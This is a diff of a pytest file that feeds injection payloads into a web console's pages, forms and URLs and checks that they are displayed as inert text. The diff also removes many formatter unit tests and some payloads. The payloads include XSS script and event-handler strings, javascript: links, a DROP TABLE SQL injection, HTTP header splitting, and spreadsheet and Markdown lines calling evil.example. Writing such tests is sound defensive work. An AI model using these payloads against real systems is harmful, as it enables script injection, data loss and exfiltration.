@@ -7,43 +7,29 @@ from typing import TYPE_CHECKING
 from urllib.parse import quote
 
 import pytest
-from markupsafe import Markup
 
 from console import runs
 from console.activity import sequencing
 from console.core.actor import Actor
-from console.views import activity, formats, frame
-from console.views.formats import Kind, Look
-from console.views.run import form_boxes
-from tests.samples import sampled
-from tests.tables import cases
 from tests.views.conftest import Page
 
 if TYPE_CHECKING:
     from tests.views.conftest import Pages
 
-pytestmark = pytest.mark.rotating
+pytestmark = pytest.mark.slow
 
 LONG = "0123456789abcdef" * 12_500  # 200 kB
 VALUES = {
     "a script": "<script>alert(1)</script>",
     "a handler": '"><img src=x onerror=alert(1)>',
-    "a handler without quotes": "x onmouseover=alert(1) style=position:fixed",
     "single quotes": "' autofocus onfocus='alert(1)",
     "an address": "javascript:alert(1)",
-    "an address in a link": '<a href="javascript:alert(1)">x</a>',
     "the end of everything": "</td></tr></table></textarea></select></title></style></script><h1>Pwned</h1>",
-    "a form": '<form action="https://evil.example"><input name="csrf_token"></form>',
     "a template": "{{ 7391 * 7919 }}{% raw %}{{ config }}",
     "a formula": '=HYPERLINK("https://evil.example";"x")',
-    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
     "two headers": "x\r\nSet-Cookie: evil=1\r\n\r\n<b>body</b>",
     "other way round": "\u202e)knil(moc.elpmaxe\u202c \u200f\u2066x\u2069",
-    "zero width": "A\u200bd\u200ca\u200de\ufeffze",
-    "combining": "Z" + "\u0351\u0322\u033a" * 60,
-    "beyond the plane": "\U0001f469\u200d\U0001f4bb \U000e0041\U0001d54f",
     "control": "bell\x07 escape\x1b[31m",
-    "entities": "&lt;script&gt; &amp;amp; &#x3c;b&#62;",
     "SQL": "Robert'); DROP TABLE customer; --",
     "Markdown": "**bold** [x](javascript:alert(1)) ![](https://evil.example/x.png) `<b>`",
     "very long": LONG,
@@ -82,7 +68,7 @@ def shown(page: Page, value: str, at_least: int = 40) -> bool:
     return wanted in plain(page.text) or wanted in plain(page.html)
 
 
-@pytest.mark.parametrize("what", sampled(list(VALUES)))
+@pytest.mark.parametrize("what", list(VALUES))
 def test_it_is_text_on_every_page_of_the_record_and_its_run(pages: "Pages", what: str) -> None:
     value, company, olivia = VALUES[what], pages.company, pages.olivia
     company.sql("update customer set display_name = ?, tax_id = ? where id = 1", value, value)
@@ -107,7 +93,7 @@ def test_it_is_text_on_every_page_of_the_record_and_its_run(pages: "Pages", what
     assert "evil=1" not in str(olivia.answer.headers)
 
 
-@pytest.mark.parametrize("what", sampled([name for name in VALUES if name != "very long"]))
+@pytest.mark.parametrize("what", [name for name in VALUES if name != "very long"])
 def test_what_is_typed_in_a_run_is_text_in_its_form_its_draft_its_replay_and_the_log(pages: "Pages", what: str) -> None:
     value, company, olivia = VALUES[what], pages.company, pages.olivia
     run = company.at("note")
@@ -137,7 +123,7 @@ def test_what_is_typed_in_a_run_is_text_in_its_form_its_draft_its_replay_and_the
     assert shown(olivia.get(f"/runs/{run}"), value)
 
 
-@pytest.mark.parametrize("what", sampled(list(VALUES)))
+@pytest.mark.parametrize("what", list(VALUES))
 def test_it_is_text_where_the_address_brings_it(pages: "Pages", what: str) -> None:
     value = quote(VALUES[what][:1500])
     test = quote(json.dumps({"field": "display_name", "op": "eq", "value": VALUES[what][:500]}))
@@ -196,102 +182,3 @@ def test_a_name_of_a_person_is_text(pages: "Pages", monkeypatch: pytest.MonkeyPa
 
 
 # -- the pieces, without a server
-
-LOOK = Look("en", "UTC")
-TYPES = [
-    "text",
-    "long_text",
-    "email",
-    "phone",
-    "url",
-    "uuid",
-    "integer",
-    "decimal",
-    "money",
-    "date",
-    "datetime",
-    "time",
-    "enum",
-    "multi_enum",
-    "json",
-    "array",
-    "binary",
-    "file",
-    "other",
-    "reference",
-]
-
-
-@cases("type_", TYPES)
-@cases("what", VALUES)
-def test_no_type_lets_it_through(type_: str, what: str) -> None:
-    value, field = VALUES[what], Kind("f", "<b>F</b>", type_)
-    drawn = [str(formats.html(field, value, LOOK)), formats.cell(field, LOOK)(value)]
-    drawn += [
-        str(formats.html(field, [value, {"<b>": value}], LOOK)),
-        str(formats.html(field, {value[:200]: value}, LOOK)),
-        formats.cell(field, LOOK)([value]),
-    ]
-    for html in drawn:
-        assert re.sub(r'https://evil\.example[^"]*|mailto:[^"]*', "", html).count("<script") == 0
-        allowed = {"a", "span", "br", "dl", "div", "dt", "dd", "pre", "td", "time", "ol", "li", "details", "summary"}
-        assert {tag for tag, _ in Page(html).attributes} <= allowed
-        assert not [name for _, told in Page(html).attributes for name in told if name.startswith("on") or name == "style"]
-
-
-@cases("what", VALUES)
-def test_a_box_gives_back_what_it_was_given(what: str) -> None:
-    source = {"name": "f", "label": "F", "type": "long_text", "required": False, "readonly": False, "now": None, "options": None}
-    box = form_boxes.box(source, LOOK, value=VALUES[what])
-    assert (
-        formats.typed(Kind("f", "F", "long_text"), [box.value.replace("\n", "\r\n")], LOOK) == VALUES[what].replace("\r\n", "\n")
-        or box.held is not None
-    )
-
-
-@cases(
-    "url",
-    [
-        "javascript:alert(1)",
-        "JAVASCRIPT:alert(1)",
-        " javascript:alert(1)",
-        "data:text/html,x",
-        "//evil.example",
-        "ftp://x",
-        "https:evil",
-        "/c/customer",
-        "",
-    ],
-)
-def test_only_web_addresses_become_links(url: str) -> None:
-    assert "<a" not in formats.html(Kind("f", "F", "url"), url, LOOK)
-
-
-@pytest.mark.parametrize("address", ['x@y.example"><b>', "x@y.example' onclick='x", "@", "a@b?subject=<b>"])
-def test_an_address_of_mail_stays_within_its_attribute(address: str) -> None:
-    (told,) = [told for tag, told in Page(str(formats.html(Kind("f", "F", "email"), address, LOOK))).attributes if tag == "a"]
-    assert told == {"href": f"mailto:{address}"}
-
-
-@cases("key", [value for name, value in VALUES.items() if name != "very long"])
-def test_a_key_is_one_segment_of_an_address(key: str) -> None:
-    url = frame.record_url("customer", key)
-    assert re.fullmatch(r"/c/customer/[A-Za-z0-9_.~%-]+", url)
-    assert frame.run_url(key, "replay").startswith("/runs/")
-    assert not set(frame.dom_id("f", key)) - set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")
-
-
-@cases("what", VALUES)
-def test_facts_of_an_event_are_bounded_text(what: str) -> None:
-    value = VALUES[what]
-    told = activity.facts(
-        {"id": value, "kind": value, "step": value, "data": {"value": value, "nested": {"a": [value]}, "empty": {}}}, LOOK
-    )
-    assert [label for label, _ in told] == ["Kind", "Event", "Step", "Value", "Nested"]
-    assert all(len(Markup(text).striptags()) <= 401 for label, text in told if label in ("Value", "Nested"))
-
-
-@cases("title", [*VALUES.values(), "", " ", "\u00a0", "é b", "\U0001f469 x"])
-def test_initials_are_at_most_two_letters(title: str) -> None:
-    assert 1 <= len(formats.initials(title)) <= 4
-    assert not set(formats.initials(title)) & set("&\"'") or title[0] in "\"'&"
